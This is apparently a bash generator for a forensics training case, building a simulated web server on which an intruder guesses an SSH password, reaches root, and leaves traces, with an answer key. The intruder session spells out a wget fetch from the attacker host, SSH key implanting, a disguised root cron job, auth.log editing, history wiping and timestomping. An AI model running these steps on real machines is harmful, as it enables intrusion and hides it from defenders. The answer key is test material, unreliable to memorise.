#!/bin/bash
# Case "ssh-guessed": a password is guessed, root is reached by sudo, a cron job, keys and a script are left behind, the
# log is edited, and the intruder comes back with the key from elsewhere.
# Usage: ssh-guessed.sh FOLDER
set -euo pipefail
. "$(dirname "$0")/common.sh"
begin ssh-guessed "$1"

admin=198.51.100.23 bad=203.0.113.66 bad2=203.0.113.99
noise1=203.0.113.12 noise2=203.0.113.140 noise3=198.51.100.201 visitor1=198.51.100.77
server_tree web1 Europe/Berlin
traditional_syslog
account marta - sudo
account alice summer2024 sudo
account jonas Kiel-1998-Regen
echo 'marta ALL=(ALL) NOPASSWD: ALL' >"$tree/etc/sudoers.d/marta"; chmod 440 "$tree/etc/sudoers.d/marta"
key marta marta@workstation; may_enter marta marta
key bad root@kali rsa
printf '<!doctype html><html><link rel="stylesheet" href="site.css"><h1>Orchard</h1><p>Apples and pears.</p></html>\n' >"$tree/var/www/html/index.html"
printf 'h1 { color: green }\n' >"$tree/var/www/html/site.css"
# The administrator's own job, which must not be blamed.
printf '# site check, marta\n* * * * * root test -r /var/www/html/index.html\n' >"$tree/etc/cron.d/site-check"
disk gpt 160
network $admin $bad $bad2 $noise1 $noise2 $noise3 $visitor1
# What the intruder fetches later: a stand-in that only waits.
mkdir "$work/$tag.web"; printf '#!/bin/sh\n# practice stand-in: does nothing but wait\nsleep 1\n' >"$work/$tag.web/upd"
behind python3 -m http.server --bind $bad --directory "$work/$tag.web" 80
boot

ff='Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
sa='Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15'
look() { get "$1" -A "$2" http://192.0.2.10/; get "$1" -A "$2" -e http://web1.example.org/ http://192.0.2.10/site.css; }

act visit visitor "" $visitor1 "looks at the site" look $visitor1 "$ff"
guess noise $noise1 root toor 123456
session admin marta $admin "logs in by key, changes the page, looks after the service" ssh_key $admin marta marta <<'S'
uptime
sudo sed -i s/pears/quinces/ /var/www/html/index.html
sudo systemctl reload apache2
sudo apt-get check
exit
S
# The usual rain from elsewhere, going on while the intruder tries.
rain() {
	guess noise $noise1 oracle oracle
	guess noise $noise1 admin admin
	guess noise $noise2 test test
	guess noise $noise2 ubuntu ubuntu1
	guess noise $noise2 root qwerty
}
rain & rain=$!
guess intruder $bad root root password
guess intruder $bad admin admin123
guess intruder $bad marta marta marta2024
guess intruder $bad jonas jonas
guess intruder $bad backup backup
guess intruder $bad alice alice 123456 password alice123 alice2024 qwerty winter2024 spring2024
wait $rain

pause 2
session intruder alice $bad "logs in with the guessed password, becomes root, leaves a script, a cron job and keys, edits auth.log" ssh_pw $bad alice summer2024 <<S
whoami
id
uname -a
w
cat /etc/passwd | grep sh$
sudo -l
:secret summer2024
mkdir -p /var/tmp/.font-unix
wget -q http://$bad/upd -O /var/tmp/.font-unix/upd
chmod +x /var/tmp/.font-unix/upd
mkdir -p ~/.ssh; chmod 700 ~/.ssh; echo "$(public bad)" >> ~/.ssh/authorized_keys
sudo -i
unset HISTFILE
id
mkdir -p /root/.ssh; echo "$(public bad)" >> /root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys
echo "* * * * * root /var/tmp/.font-unix/upd >/dev/null 2>&1" > /etc/cron.d/man-db-update
:cron
sed -i '/$bad/d' /var/log/auth.log
: > /var/log/btmp
: > /root/.bash_history
chown root:root /var/tmp/.font-unix/upd
touch -d '2023-03-04 05:06:00' /var/tmp/.font-unix/upd
exit
exit
S

act visit visitor "" $visitor1 "looks at the site" look $visitor1 "$sa"
guess noise $noise3 root 1234 admin
session intruder root $bad2 "comes back with the added key from another address" ssh_key $bad2 root bad <<'S'
unset HISTFILE
id
ls -la /var/tmp/.font-unix
exit
S
guess noise $noise3 postgres postgres
session admin marta $admin "logs in by key and looks at the disk" ssh_key $admin marta marta <<'S'
df -h
last -5
exit
S
act visit visitor "" $visitor1 "looks at the site" look $visitor1 "$ff"
cron_minute
down

session_start=$(when ssh_login 'guessed password')
truth "Who got in, how, when and from where; did they reach root; what did they leave; what did they hide?" "$(
	cat <<J
{"expect":{"status":"compromised","root":true,
 "entry":[{"vector":"ssh-password-guessed","account":"alice","sources":["$bad"],"first":"$session_start","first_act":"guessed password","tolerance_seconds":5}],
 "returns":[{"vector":"ssh-key","account":"root","sources":["$bad2"],"first":"$(when ssh_login 'added key')","tolerance_seconds":5}],
 "persistence":[{"mechanism":"cron","path":"/etc/cron.d/man-db-update","as":"root"},
  {"mechanism":"ssh-key","path":"/root/.ssh/authorized_keys","as":"root"},
  {"mechanism":"ssh-key","path":"/home/alice/.ssh/authorized_keys","as":"alice"}],
 "altered":[{"path":"/var/log/auth.log","kind":"log-edited"},{"path":"/var/log/btmp","kind":"log-cut"},
  {"path":"/var/tmp/.font-unix/upd","kind":"timestomped"},{"path":"/root/.bash_history","kind":"history-wiped"}],
 "impact":[],
 "files":["/var/tmp/.font-unix/upd","/etc/cron.d/man-db-update"],
 "actions":[{"what":"sudo -i","account":"alice","time":"$(when command 'sudo -i')"},
  {"what":"download by wget from $bad","account":"alice","time":"$(when command 'wget -q')"},
  {"what":"script run by cron as root","account":"root"},
  {"what":"auth.log edited by sed","account":"root","time":"$(when command "sed -i '/$bad/d'")"}]},
 "must_not":{"accounts":["marta","jonas"],"addresses":["$admin","$visitor1","$noise1","$noise2","$noise3"],
  "files":["/etc/cron.d/site-check","/etc/cron.d/e2scrub_all","/etc/cron.d/php","/etc/sudoers.d/marta","/home/marta/.ssh/authorized_keys"]}}
J
)"
image zst
readme <<'R'
# ssh-guessed

A web server, `web1`, disk image with a GPT and one ext4 partition (`evidence.img.zst`, unpack with `zstd -d --long=27`).
Local time is Europe/Berlin; rsyslog writes the traditional format without year or zone. People guess at ssh all the
time. One guess succeeds. The log was edited afterwards; the journal was not.
R
